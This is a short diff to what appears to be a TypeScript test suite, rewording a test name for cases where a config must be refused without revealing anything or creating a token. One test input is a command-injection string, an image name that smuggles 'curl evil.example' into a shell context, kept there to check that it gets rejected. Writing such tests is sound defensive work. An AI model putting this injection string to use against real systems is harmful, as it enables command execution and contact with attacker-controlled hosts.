@@ -159,7 +159,7 @@ describe('join data', () => {
     ['names what would run in a shell', withImage("a/b:v1'; curl evil.example; '")],
     ['names what is no image', withImage('--all')],
     ['names no version', aConfig([agent, agentConfig('latest')])],
-  ])('cannot be had of a config that %s: nothing of it is told, and no token is made', async (_what, config) => {
+  ])('are refused for a config that %s, without revealing it or creating a token', async (_what, config) => {
     hold(aSecret('p1', { config }));
 
     const error = await join().catch((failure: Error) => failure);
